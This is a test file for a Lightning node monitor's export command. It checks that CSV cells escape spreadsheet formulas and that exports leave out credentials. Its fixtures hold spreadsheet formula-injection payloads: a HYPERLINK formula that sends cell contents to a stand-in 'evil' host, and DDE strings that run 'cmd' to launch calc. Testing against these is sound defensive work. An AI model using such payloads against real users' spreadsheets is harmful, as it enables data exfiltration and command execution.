import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { Writable } from 'node:stream';
import fc from 'fast-check';
import { main } from '../../src/cli/cli';
import { exportCommand } from '../../src/cli/export';
import { UsageError } from '../../src/cli/args';
import { LndSimulator } from '../../src/core/sim';
import { HtlcStore } from '../../src/core/store';
import { csvCell, toCsv } from '../../src/core/store/export';
import { startWatch } from './cli-session';
import { BIG, failure, rmDir, success, tmpDir, U64_MAX } from './store-helpers';
import { until } from './wait';

/** A strict RFC 4180 reader (the test's own, to check what a spreadsheet would see). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        cell += c;
        i++;
      }
    } else if (c === '"' && cell === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      assert.ok(c !== '"' && c !== '\r' && c !== '\n', `unquoted special character at ${i}`);
      cell += c;
      i++;
    }
  }
  assert.equal(cell, '');
  assert.equal(row.length, 0, 'ends with CRLF');
  return rows;
}

function sink() {
  let text = '';
  const stream = new Writable({
    write(chunk, _enc, cb) {
      text += chunk;
      cb();
    },
  });
  return { stream, get text() {
    return text;
  } };
}

describe('store: CSV escaping', () => {
  it('escapes formula starters per OWASP, quotes and doubles quotes, keeps numbers', () => {
    assert.equal(csvCell('=1+1'), `"'=1+1"`);
    assert.equal(csvCell('+SUM(A1)'), `"'+SUM(A1)"`);
    assert.equal(csvCell('-2+3'), `"'-2+3"`);
    assert.equal(csvCell('@cmd'), `"'@cmd"`);
    assert.equal(csvCell('\t=x'), `"'\t=x"`);
    assert.equal(csvCell('\r=x'), `"'\r=x"`);
    assert.equal(csvCell('=HYPERLINK("http://evil","x")'), `"'=HYPERLINK(""http://evil"",""x"")"`);
    assert.equal(csvCell('a"b'), `"a""b"`);
    assert.equal(csvCell('a,b'), `"a,b"`);
    assert.equal(csvCell('line1\n=line2'), `"line1\n=line2"`);
    assert.equal(csvCell(' padded '), `" padded "`);
    assert.equal(csvCell('ACINQ'), 'ACINQ');
    assert.equal(csvCell(''), '');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell(42), '42');
    assert.equal(csvCell(U64_MAX), '18446744073709551615');
    assert.equal(csvCell(true), 'true');
    assert.equal(toCsv([{ a: 1, b: '=x' }]), `a,b\r\n1,"'=x"\r\n`);
    assert.equal(toCsv([], ['x', 'y']), 'x,y\r\n');
  });

  it('any string reads back as itself (with the quote prefix for formulas), and no cell starts a formula (fast-check)', () => {
    const str = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', 'a', ' ', "'") }));
    fc.assert(
      fc.property(fc.array(fc.tuple(str, str, fc.bigInt({ min: 0n, max: U64_MAX })), { maxLength: 20 }), (rows) => {
        const csv = toCsv(rows.map(([a, b, n]) => ({ a, b, n })), ['a', 'b', 'n']);
        const parsed = parseCsv(csv);
        assert.deepEqual(parsed[0], ['a', 'b', 'n']);
        assert.equal(parsed.length, rows.length + 1);
        rows.forEach(([a, b, n], i) => {
          const expect = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
          assert.deepEqual(parsed[i + 1], [expect(a), expect(b), n.toString()]);
          for (const cell of parsed[i + 1]) assert.ok(!/^[=+\-@\t\r]/.test(cell));
        });
      }),
      { numRuns: 300 },
    );
  });
});

describe('store: export command', () => {
  let dir: string;
  let db: string;
  const now = Date.now();
  before(async () => {
    dir = tmpDir();
    db = path.join(dir, 'h.sqlite');
    const store = await HtlcStore.open(db, { flushIntervalMs: 0 });
    store.setNode('02' + 'ab'.repeat(32));
    store.record([
      failure({ timestampMs: now - 1000, outgoingChanId: U64_MAX, incomingChanId: 5n, outgoingAmtMsat: BIG, incomingAmtMsat: BIG + 1500n, failureString: 'bad "quote",\n=cmd|calc' }),
      failure({ timestampMs: now - 2000, outgoingChanId: 6n, incomingChanId: 5n, reason: 'FEE_INSUFFICIENT' }),
      failure({ timestampMs: now - 10 * 86_400_000, outgoingChanId: 6n, incomingChanId: 5n }),
      success({ timestampMs: now - 3000, outgoingChanId: 6n, incomingChanId: 5n }),
    ]);
    store.setAliases([
      ['5', '=HYPERLINK("http://evil/?"&A1,"click")'],
      [U64_MAX.toString(), '@SUM(1+1)*cmd|" /C calc"!A0'],
      ['6', 'plain, "quoted"\r\nnode'],
    ]);
    await store.close();
  });
  after(() => rmDir(dir));

  async function run(args: string[]) {
    const out = sink();
    const err = sink();
    const code = await exportCommand(args, { stdout: out.stream, stderr: err.stream });
    return { code, out: out.text, err: err.text };
  }

  it('JSON: one document, uint64 as decimal strings, aliases as data, no secrets', async () => {
    const r = await run(['--db', db, '--window', '7d', '--format', 'json']);
    assert.equal(r.code, 0, r.err);
    const doc = JSON.parse(r.out);
    assert.equal(doc.window, '7d');
    assert.equal(doc.nodePubkey, '02' + 'ab'.repeat(32));
    assert.equal(doc.channels.length, 2);
    const top = doc.channels[0];
    assert.equal(top.channelId, '18446744073709551615');
    assert.equal(top.missedAmountMsat, BIG.toString());
    assert.equal(top.alias, '@SUM(1+1)*cmd|" /C calc"!A0');
    assert.equal(doc.node.failures, 2, '7d excludes the 10-day-old failure');
    assert.equal(doc.node.successes, 1);
    assert.equal(doc.failures.length, 2);
    assert.equal(doc.failures[0].outgoingChannelId, '18446744073709551615');
    assert.equal(doc.failures[0].incomingAmtMsat, (BIG + 1500n).toString());
    assert.equal(doc.failures[0].failureString, 'bad "quote",\n=cmd|calc');
    assert.equal(doc.routePairs.length, 2);
    assert.ok(!/macaroon|tls|secret/i.test(r.out));
    const all = JSON.parse((await run(['--db', db, '--window', 'all'])).out);
    assert.equal(all.node.failures, 3);
  });

  it('CSV tables: channels, pairs, failures — escaped cells', async () => {
    const ch = await run(['--db', db, '--window', '24h', '--format', 'csv']);
    assert.equal(ch.code, 0, ch.err);
    const rows = parseCsv(ch.out);
    assert.equal(rows[0][0], 'channel_id');
    assert.deepEqual(rows[1].slice(0, 3), ['18446744073709551615', formatScidOf(U64_MAX), `'@SUM(1+1)*cmd|" /C calc"!A0`]);
    assert.equal(rows[2][2], 'plain, "quoted"\r\nnode');
    const pairs = parseCsv((await run(['--db', db, '--window', '24h', '--format', 'csv', '--table', 'pairs'])).out);
    assert.equal(pairs[1][2], `'=HYPERLINK("http://evil/?"&A1,"click")`);
    const f = parseCsv((await run(['--db', db, '--window', '30d', '--format', 'csv', '--table', 'failures', '--channel', '6'])).out);
    assert.equal(f.length, 3);
    const all = parseCsv((await run(['--db', db, '--window', '30d', '--format', 'csv', '--table', 'failures'])).out);
    const fs_ = all[0].indexOf('failure_string');
    assert.equal(all[1][fs_], 'bad "quote",\n=cmd|calc');
    for (const row of [...rows, ...pairs, ...all]) for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), cell);
  });

  it('--out writes a file; usage errors; a bad --db is an error and stays where it is', async () => {
    const out = path.join(dir, 'x.csv');
    const r = await run(['--db', db, '--format', 'csv', '--out', out]);
    assert.equal(r.code, 0);
    assert.equal(r.out, '');
    assert.match(fs.readFileSync(out, 'utf8'), /^channel_id,/);
    await assert.rejects(run([]), UsageError);
    await assert.rejects(run(['--db', db, '--window', '2d']), /--window/);
    await assert.rejects(run(['--db', db, '--format', 'xml']), /--format/);
    await assert.rejects(run(['--db', db, '--table', 'pairs']), /--table applies to --format csv/);
    await assert.rejects(run(['--db', db, '--bogus']), UsageError);
    await assert.rejects(run(['--db', db, '--channel', 'nope']), /--channel/);
    const bad = path.join(dir, 'bad.sqlite');
    fs.writeFileSync(bad, 'garbage');
    const e = await run(['--db', bad]);
    assert.equal(e.code, 1);
    assert.match(e.err, /not an htlc-monitor history file/);
    assert.equal(fs.readFileSync(bad, 'utf8'), 'garbage');
    const missing = await run(['--db', path.join(dir, 'none.sqlite')]);
    assert.equal(missing.code, 1);
  });
});

describe('store: CLI watch --db keeps the history across runs', function () {
  let dir: string;
  let sim: LndSimulator;
  before(async () => {
    dir = tmpDir();
    sim = await LndSimulator.start({ seed: 11 });
  });
  after(async () => {
    await sim.stop();
    rmDir(dir);
  });

  it('restores, keeps counting, and export reads it', async () => {
    const creds = await sim.writeCredentials(dir);
    const file = path.join(dir, 'watch.sqlite');
    const runs: { node: { failedForwards: number }; channels: { channelId: string; failedForwards: number }[] }[] = [];
    for (let i = 0; i < 2; i++) {
      // each run ends (SIGTERM) once it has read its events, not after a --duration that may not cover them
      await using run = await startWatch(['watch', '--lnd', sim.address, '--tls-cert', creds.certPath, '--macaroon', creds.macaroonPath, '--json', '--db', file]);
      await sim.waitForStreams(1);
      const emitted = sim.step(1500, { flush: true });
      await run.untilMetric('events_received_total', (n) => n === 1 + emitted, 'the events read');
      const { code, out, err } = await run.stop();
      assert.equal(code, 0, err);
      runs.push(JSON.parse(out));
      // the next run's waitForStreams must not count this run's stream
      await until(() => sim.liveStreams === 0, 'the stream closed');
    }
    const [a, b] = runs;
    assert.ok(a.node.failedForwards > 0);
    assert.ok(b.node.failedForwards > a.node.failedForwards, `${b.node.failedForwards} > ${a.node.failedForwards}`);
    for (const ch of a.channels) {
      const later = b.channels.find((c) => c.channelId === ch.channelId);
      assert.ok(later && later.failedForwards >= ch.failedForwards, `channel ${ch.channelId} kept its count`);
    }
    const e = sink();
    assert.equal(await main(['export', '--db', file, '--window', 'all'], { stdout: e.stream, stderr: sink().stream }), 0);
    const doc = JSON.parse(e.text);
    assert.equal(doc.node.failures, b.node.failedForwards);
    assert.equal(doc.nodePubkey, sim.identityPubkey);
    assert.ok(!e.text.includes(sim.macaroonHex), 'no macaroon in an export');
    assert.ok(!fs.existsSync(`${file}.lock`));
  });
});

function formatScidOf(id: bigint): string {
  return `${Number((id >> 40n) & 0xffffffn)}x${Number((id >> 16n) & 0xffffffn)}x${Number(id & 0xffffn)}`;
}
